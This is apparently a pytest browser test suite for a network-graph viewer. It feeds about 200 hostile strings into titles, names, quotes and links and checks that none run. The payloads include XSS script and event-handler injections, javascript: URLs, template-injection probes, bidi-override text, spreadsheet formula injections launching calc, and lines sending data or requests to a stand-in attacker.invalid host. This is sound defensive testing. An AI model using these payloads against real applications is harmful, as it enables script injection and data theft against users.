"""Two hundred strings that try to run, each as title, name, quote, address and more."""

from itertools import product

import pytest

from graph.services.networks import ego
from graph.store import Node, Relationship
from tests import claims
from viz import svg
from viz.network import render

pytestmark = pytest.mark.browser

RUN = "window.__ran=(window.__ran||0)+1"
FORMS = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "</SCRIPT ><svg onload={run}>",
    "--><script>{run}</script><!--",
    "<!--<script>{run}</script>",
    "]]><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=https://attacker.invalid/x.png>",
    "<a href='javascript:{run}'>klik</a>",
    "href=javascript:{run}",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<math><mtext></table><img src onerror={run}>",
    "<style>@import 'https://attacker.invalid/x.css';</style>",
    '" onmouseover="{run}" autofocus onfocus="{run}',
    "' onmouseover='{run}' x='",
    "`${{{run}}}`",
    "{{{{ self.__init__.__globals__ }}}}{{{{7*7}}}}",
    "{{% for x in [1] %}}{run}{{% endfor %}}",
    "#{{{run}}}",
    "\\u003cscript>{run}</script>",
    "javascript:{run}//https://x.id",
    "data:text/html,<script>{run}</script>",
    "\u2028{run}\u2029",
    "\u202ePT naitilepmef\u202c {run}",
    "\x00\x07\x1b{run}",
    "__proto__ constructor toString {run}",
    "<b>tebal</b> & \"kutip\" 'satu' {run}",
    "<base href=https://attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid'>",
    "<form action=https://attacker.invalid><button>x",
    "<link rel=stylesheet href=https://attacker.invalid/x.css>",
    "*|<object data='javascript:{run}'>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<details open ontoggle={run}>",
    '=HYPERLINK("https://attacker.invalid/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
)
WRAPS = ("{}", "PT {}", "“{}”", "{}\n{}", "  {}  ")
STRINGS = [wrap.replace("{}", form.format(run=RUN)) for form, wrap in product(FORMS, WRAPS)][:200]


def hostile_claims():
    documents, given = [], []
    for number, text in enumerate(STRINGS):
        key = f"doc:h{number}"
        documents.append(claims.document(key, title=text, publisher=text, url=text, published=None))
        given += [
            *claims.entity(f"org:h{number}", "Company", key),
            claims.claim(
                f"org:h{number}", "name", text, key, quote=text, locator=text, original=text
            ),
            claims.claim(f"org:h{number}", "description", text, key),
            claims.claim("agr:hub", "party", f"org:h{number}", key, quote=text, locator=None),
        ]
    given += claims.entity("agr:hub", "Declaration", "doc:h0", name=STRINGS[0])
    return documents, [*given, *_placed()]


def _placed():
    """Return what maps, ledgers and timelines show, under names that try to run."""
    entity, claim = claims.entity, claims.claim
    found = [
        *entity("region:53", "Province", "doc:h0", name=STRINGS[1], isoCode="ID-NT"),
        *entity("country:MY", "Country", "doc:h0", name=STRINGS[2]),
        *entity("case:h", "Case", "doc:h0", name=STRINGS[6], date="2025-01-01"),
        *entity("cmt:h", "Commitment", "doc:h0", name=STRINGS[7], commitmentOf="agr:hub"),
        claim("cmt:h", "description", STRINGS[8], "doc:h0"),
        claim("agr:hub", "locatedIn", "region:53", "doc:h0"),
    ]
    for number, text in enumerate(STRINGS):
        day, key = f"2025-{number % 12 + 1:02}-01", f"doc:h{number}"
        found += [
            *entity(f"evt:h{number}", "Interception", key, name=text, date=day),
            claim(f"evt:h{number}", "occurredAt", "region:53", key),
            claim(f"evt:h{number}", "destination", "country:MY", key),
            claim(f"evt:h{number}", "caseOf", "case:h", key),
            *entity(f"per:h{number}", "Person", key, name=text),
            *entity(f"stage:h{number}", "LegalStage", key, stage="suspect", date=day),
            claim(f"stage:h{number}", "stageOf", f"per:h{number}", key),
            claim(f"stage:h{number}", "stageIn", "case:h", key),
        ]
    return found


@pytest.fixture
def hostile(snapshot_of):
    return snapshot_of(*hostile_claims())


def test_two_hundred_hostile_strings_and_none_runs(hostile, ontology, open_page):
    view = ego(hostile, "agr:hub", limit=500)
    assert len(view.nodes) == 203  # the hub, 200 parties, a province and a commitment
    with open_page(render(view, hostile, ontology, title=STRINGS[1])) as seen:
        page = seen.page
        page.locator("#finder-box summary").click()
        assert page.locator("#finder li").count() == 200
        for index in range(0, 200, 7):
            page.locator("#finder li").nth(index).click()
            for details in page.locator(".panel details").all():
                details.evaluate("e => { e.open = true }")
            page.locator(".panel .ties button").first.click()
        page.locator("#switch-language").click()
        page.locator("#as-table").click()
        page.locator("#tables button", has_text="more").click()
        page.mouse.move(400, 300)
        assert page.evaluate("window.__ran || 0") == 0
        assert (
            page.locator(
                "#tables img, #tables script, #tables iframe, .panel img, .panel svg [onload]"
            ).count()
            == 0
        )
        for link in page.locator("a").all():
            assert link.get_attribute("href").startswith(("http://", "https://"))


def test_hostile_text_is_shown_as_text(hostile, ontology, open_page):
    view = ego(hostile, "agr:hub", limit=500)
    with open_page(render(view, hostile, ontology, title=STRINGS[0])) as seen:
        page = seen.page
        assert page.locator("h1").inner_text() == STRINGS[0]
        page.locator("#finder-box summary").click()
        listed = "\n".join(page.locator("#finder li").all_text_contents())
        for part in (
            "<img src=x onerror=",
            "{{7*7}}",
            "⟦U+202E⟧PT",
            "</script><script>",
            "⟦U+001B⟧",
        ):
            assert part in listed
        assert "\u202e" not in page.content()


def test_hostile_ids_and_types_do_not_run_either(hostile, ontology, open_page):
    nodes = [
        Node(text, ontology.cls("Company").ancestors, {"caption": text}) for text in STRINGS[:60]
    ]
    nodes.append(Node("__proto__", ontology.cls("Person").ancestors, {"caption": "constructor"}))
    links = [
        Relationship(text, text, STRINGS[0], text, {"modality": text, "layer": "reference"})
        for text in STRINGS[1:60]
    ]
    view = type(ego(hostile, "agr:hub"))(tuple(nodes), tuple(links), (STRINGS[0],))
    with open_page(render(view, hostile, ontology, title="x")) as seen:
        page = seen.page
        page.locator("#finder-box summary").click()
        for caption in ("constructor", "onerror"):
            page.locator("#finder li", has_text=caption).first.click()
        page.locator("#as-table").click()
        assert page.evaluate("window.__ran || 0") == 0


def test_a_hostile_drawing_does_not_run(hostile, ontology, chromium, tmp_path):
    file = tmp_path / "drawing.svg"
    text = svg.render(ego(hostile, "agr:hub", limit=500), ontology, title=STRINGS[1])
    file.write_text(text, "utf-8")
    page = chromium.new_page()
    asked = []
    page.on("request", lambda r: asked.append(r.url))
    page.goto(file.as_uri())
    assert page.evaluate("window.__ran || 0") == 0
    assert asked == [file.as_uri()]
    page.close()


def test_the_policy_stops_markup_that_got_in_all_the_same(hostile, ontology, chromium, tmp_path):
    file = tmp_path / "page.html"
    file.write_text(render(ego(hostile, "agr:hub"), hostile, ontology, title="x"), "utf-8")
    page = chromium.new_page()
    refused, left = [], []
    page.on("console", lambda m: refused.append(m.text))
    page.on("requestfailed", lambda r: left.append(r.url))
    page.on("response", lambda r: r.url.startswith("http") and left.append(f"answered {r.url}"))
    page.goto(file.as_uri())
    page.evaluate(
        """() => {
          document.body.insertAdjacentHTML('beforeend',
            '<img src=https://127.0.0.1:9/x.png onerror="window.__ran = 1">'
            + '<b onclick="window.__ran = 1">x');
          document.querySelector('b:last-of-type').click();
          const script = document.createElement('script');
          script.textContent = 'window.__ran = 1';
          document.body.append(script);
        }"""
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.__ran || 0") == 0
    assert sum("Content Security Policy" in text for text in refused) >= 3
    assert not [address for address in left if address.startswith("answered")]
    page.close()
